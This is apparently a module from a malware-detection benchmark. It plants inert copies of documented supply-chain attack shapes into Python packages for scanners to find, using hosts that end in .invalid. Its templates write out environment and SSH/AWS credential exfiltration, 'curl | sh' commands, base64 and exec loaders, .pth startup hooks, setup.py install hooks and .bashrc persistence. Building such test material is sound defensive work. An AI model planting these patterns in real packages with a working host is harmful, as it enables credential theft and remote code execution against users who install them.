"""Documented shapes of hijacked releases, planted into real packages: inert, with hosts that cannot exist.

Each shape takes a package and gives it back with the attack in it, or None where it does not fit. What is planted
is the shape of what was seen in the wild (catalogue: `malware.md` section 4) and does nothing of it: hosts end in
`.invalid`, encoded code asks such a host and no more, programs are a header and nothing behind it. Nothing of it
is ever written to a disk or run; it is read by the checks in memory.
"""

from __future__ import annotations

import base64
import hashlib
import re
import zlib
from collections.abc import Callable, Mapping

from bench.detection.repacking import Package

Shape = Callable[[Package], Package | None]

_ASIDE = re.compile(
    r"(?:^|/)(?:tests?|testing|docs?|examples?|benchmarks?|_vendor|vendor|conftest|test_)", re.IGNORECASE
)
_HOST = "https://metrics.collect.invalid"
_INERT = f"import urllib.request\nurllib.request.urlopen('{_HOST}/s').read()\n"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(40) + bytes(200)
_MIN_LINES = 25


def _own_modules(package: Package) -> list[str]:
    """Modules that importing the package may run, by path; those of tests and documents are none."""
    prefix = package.top
    found = []
    for path in sorted(package.files):
        source = "src/" if path.startswith(f"{prefix}src/") else ""
        inner = path.removeprefix(prefix).removeprefix("src/")
        own = f"{prefix}{source}{inner.partition('/')[0]}/__init__.py" in package.files
        if own and inner.endswith(".py") and not _ASIDE.search(inner) and "__main__" not in inner:
            found.append(path)
    return found


def _helper(package: Package) -> str | None:
    """An existing module of some length, the same one for the same package."""
    fitting = [
        path
        for path in _own_modules(package)
        if not path.endswith("/__init__.py") and (package.text(path) or "").count("\n") >= _MIN_LINES
    ]
    return min(fitting, key=lambda path: hashlib.sha256(path.encode()).digest(), default=None)


def _init(package: Package) -> str | None:
    found = [path for path in _own_modules(package) if path.endswith("/__init__.py")]
    return min(found, key=lambda path: (path.count("/"), path), default=None)


def _appended(package: Package, path: str | None, code: str) -> Package | None:
    text = None if path is None else package.text(path)
    return (
        None
        if path is None or text is None
        else package.with_files({path: f"{text.rstrip()}\n\n\n{code}".encode()})
    )


def import_stealer(package: Package) -> Package | None:
    """The environment, posted from a thread by a module that has been there for long (ctx, LiteLLM)."""
    return _appended(
        package,
        _helper(package),
        f"""def _report():
    import json, os, socket, urllib.request
    data = json.dumps({{"host": socket.gethostname(), "env": dict(os.environ)}}).encode()
    urllib.request.urlopen(urllib.request.Request("{_HOST}/e", data=data), timeout=3)


import threading
threading.Thread(target=_report, daemon=True).start()
""",
    )


def remote_code(package: Package) -> Package | None:
    """What an address answers, run at import."""
    return _appended(
        package,
        _helper(package),
        f"""import urllib.request
try:
    exec(urllib.request.urlopen("{_HOST}/u", timeout=3).read())
except Exception:
    pass
""",
    )


def in_ci_only(package: Package) -> Package | None:
    """A command that runs on build machines alone."""
    return _appended(
        package,
        _helper(package),
        f"""import os
if os.environ.get("GITHUB_ACTIONS") == "true":
    os.system("curl -fsSL {_HOST}/r.sh | sh")
""",
    )


def startup_line(package: Package) -> Package | None:
    """A `.pth` file whose line decodes and runs (LiteLLM's second wave)."""
    if not package.is_wheel:
        return None
    code = base64.b64encode(_INERT.encode()).decode()
    line = f"import base64; exec(base64.b64decode('{code}'))\n"
    return package.with_files({f"{package.filename.split('-')[0]}_init.pth": line.encode()})


def startup_import(package: Package) -> Package | None:
    """A `.pth` file that imports a new module of the package, which asks an address at every start."""
    init = _init(package)
    if not package.is_wheel or init is None:
        return None
    folder = init.rpartition("/")[0]
    return package.with_files(
        {
            f"{folder.replace('/', '_')}.pth": f"import {folder.replace('/', '.')}._loader\n".encode(),
            f"{folder}/_loader.py": f"import urllib.request\nurllib.request.urlopen('{_HOST}/start')\n".encode(),
        }
    )


def install_hook(package: Package) -> Package | None:
    """A command in the place of `install` that reports (the classic of sdists)."""
    path = f"{package.top}setup.py"
    if package.is_wheel:
        return None
    text = package.text(path) if path in package.files else "from setuptools import setup\n\nsetup()\n"
    if text is None or "setup(" not in text or "cmdclass" in text:
        return None
    hook = f"""from setuptools.command.install import install as _install


class PostInstall(_install):
    def run(self):
        _install.run(self)
        import getpass, socket, urllib.request
        urllib.request.urlopen("{_HOST}/i?u=" + getpass.getuser() + "&h=" + socket.gethostname())


"""
    at = text.rindex("\nsetup(") + 1 if "\nsetup(" in text else text.index("setup(")
    body = text[at:].replace("setup(", "setup(cmdclass={'install': PostInstall}, ", 1)
    return package.with_files({path: (text[:at] + hook + body).encode()})


def setup_fetch(package: Package) -> Package | None:
    """Code of `setup.py` itself that runs what an address answers."""
    path = f"{package.top}setup.py"
    if package.is_wheel or path not in package.files:
        return None
    return _appended(package, path, f'import os\nos.system("curl -s {_HOST}/x | bash")\n')


def obfuscated_helper(package: Package) -> Package | None:
    """A chain of decodings in a helper, run when the module is imported."""
    code = base64.b85encode(zlib.compress(_INERT.encode())).decode()
    return _appended(
        package,
        _helper(package),
        f"""def _tables(_n=__import__):
    _z, _b = _n("zlib"), _n("base64")
    return _z.decompress(_b.b85decode({code!r}))


eval(compile(_tables(), "<tables>", "exec"))
""",
    )


def asked_by_name(package: Package) -> Package | None:
    """Modules and functions asked for by names that are put together."""
    return _appended(
        package,
        _helper(package),
        f"""_m = __import__("".join(["sub", "pro", "cess"]))
getattr(_m, "ch" + "eck_out" + "put")(["".join(["cu", "rl"]), "-s", "{_HOST}/q"])
""",
    )


def shifted_line(package: Package) -> Package | None:
    """A command far to the right of a line that was there."""
    path = _helper(package)
    text = None if path is None else package.text(path)
    if path is None or text is None:
        return None
    lines = text.splitlines()
    wanted = re.compile(r"(?:import [\w.]+|from [\w.]+ import [\w, ]+)\Z")
    at = next((number for number, line in enumerate(lines) if wanted.match(line)), None)
    if at is None:
        return None
    lines[at] += " " * 400 + f";import os as _o;_o.system('curl -s {_HOST}/w|sh')"
    return package.with_files({path: ("\n".join(lines) + "\n").encode()})


def one_line(package: Package) -> Package | None:
    """One line of lambdas at the end of a module."""
    code = base64.b64encode(_INERT.encode()).decode()
    return _appended(
        package,
        _helper(package),
        f"(lambda _:(lambda __:exec(__))(__import__('base64').b64decode(_).decode()))('{code}')\n",
    )


def dropped_program(package: Package) -> Package | None:
    """A program that the package brings along and starts at import."""
    init = _init(package)
    if init is None:
        return None
    folder = init.rpartition("/")[0]
    changed = _appended(
        package,
        init,
        """import os as _os
import subprocess as _sp
_tool = _os.path.join(_os.path.dirname(__file__), "_accel.dat")
_os.chmod(_tool, 0o755)
_sp.Popen([_tool], stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
""",
    )
    return None if changed is None else changed.with_files({f"{folder}/_accel.dat": _ELF})


def fetched_program(package: Package) -> Package | None:
    """A program that is fetched, marked as one and started at import."""
    return _appended(
        package,
        _helper(package),
        f"""import os, subprocess, tempfile, urllib.request
_path = os.path.join(tempfile.gettempdir(), ".cache-helper")
urllib.request.urlretrieve("{_HOST}/bin", _path)
os.chmod(_path, 0o755)
subprocess.Popen([_path])
""",
    )


def beacon(package: Package) -> Package | None:
    """A quiet question to an address at import, with the name of the machine."""
    return _appended(
        package,
        _init(package),
        f"""try:
    import platform, urllib.request
    urllib.request.urlopen("{_HOST}/v?n=" + platform.node(), timeout=2)
except Exception:
    pass
""",
    )


def plain_question(package: Package) -> Package | None:
    """A question to an address at import that tells nothing: a first step, or a kill switch."""
    return _appended(
        package,
        _helper(package),
        f'import urllib.request\n_flags = urllib.request.urlopen("{_HOST}/flags").read()\n',
    )


def new_module(package: Package) -> Package | None:
    """A new module that steals keys, imported from the package."""
    init = _init(package)
    if init is None:
        return None
    folder = init.rpartition("/")[0]
    changed = _appended(package, init, "from . import _telemetry\n")
    code = f"""import os
import urllib.request

_names = (".ssh/id_rsa", ".aws/credentials", ".config/gcloud/application_default_credentials.json", ".pypirc")
for _name in _names:
    _path = os.path.expanduser("~/" + _name)
    if os.path.exists(_path):
        with open(_path, "rb") as _file:
            urllib.request.urlopen(urllib.request.Request("{_HOST}/k", data=_file.read()))
"""
    return None if changed is None else changed.with_files({f"{folder}/_telemetry.py": code.encode()})


def persistent(package: Package) -> Package | None:
    """A line for the shell's start, written at import."""
    return _appended(
        package,
        _helper(package),
        f"""import os
with open(os.path.expanduser("~/.bashrc"), "a") as _rc:
    _rc.write("\\n(curl -s {_HOST}/p | sh) >/dev/null 2>&1 &\\n")
""",
    )


def in_a_function(package: Package) -> Package | None:
    """The arguments of a function that was there, posted when somebody calls it (ssh-decorator)."""
    path = _helper(package)
    text = None if path is None else package.text(path)
    found = (
        None
        if text is None
        else re.search(
            r"^def \w+\(([a-z_]\w*)[^()]*\)(?: -> [\w.\[\], |]+)?:\n(?P<space>    )(?![\"'])", text, re.MULTILINE
        )
    )
    if path is None or text is None or found is None:
        return None
    at = found.start("space")
    line = f"    __import__('urllib.request').request.urlopen('{_HOST}/a', data=repr({found[1]}).encode())\n"
    return package.with_files({path: (text[:at] + line + text[at:]).encode()})


def run_in_a_function(package: Package) -> Package | None:
    """What an address answers, run by a function that was there."""
    path = _helper(package)
    text = None if path is None else package.text(path)
    found = (
        None
        if text is None
        else re.search(r"^def \w+\([^()]*\)(?: -> [\w.\[\], |]+)?:\n(?P<space>    )(?![\"'])", text, re.MULTILINE)
    )
    if path is None or text is None or found is None:
        return None
    at = found.start("space")
    line = f"    import os, urllib.request; os.system(urllib.request.urlopen('{_HOST}/b').read().decode())\n"
    return package.with_files({path: (text[:at] + line + text[at:]).encode()})


def addressed_dependency(package: Package) -> Package | None:
    """A dependency that is fetched from an address."""
    return _required(package, f"fast-helper @ {_HOST}/fast_helper-1.0-py3-none-any.whl")


def named_dependency(package: Package) -> Package | None:
    """A dependency by name, where the harm would be: nothing of it is in the package."""
    return _required(package, "fast-helper-utils")


def _required(package: Package, requirement: str) -> Package | None:
    path = f"{package.dist_info()}METADATA" if package.is_wheel else f"{package.top}PKG-INFO"
    text = package.text(path) if path in package.files else None
    if text is None:
        return None
    head, blank, body = text.partition("\n\n")
    return package.with_files(
        {path: f"{head.rstrip()}\nRequires-Dist: {requirement}{blank or chr(10)}{body}".encode()}
    )


#: All shapes by name, in the order of the table.
SHAPES: Mapping[str, Shape] = {
    "import-stealer": import_stealer,
    "remote-code": remote_code,
    "in-ci-only": in_ci_only,
    "beacon": beacon,
    "plain-question": plain_question,
    "new-module": new_module,
    "obfuscated-helper": obfuscated_helper,
    "asked-by-name": asked_by_name,
    "shifted-line": shifted_line,
    "one-line": one_line,
    "dropped-program": dropped_program,
    "fetched-program": fetched_program,
    "persistent": persistent,
    "startup-line": startup_line,
    "startup-import": startup_import,
    "install-hook": install_hook,
    "setup-fetch": setup_fetch,
    "in-a-function": in_a_function,
    "run-in-a-function": run_in_a_function,
    "addressed-dependency": addressed_dependency,
    "named-dependency": named_dependency,
}
#: Shapes of which a second wheel is made, beside the sdist and the wheel as they were.
SECOND_WHEEL = ("import-stealer", "plain-question", "beacon")
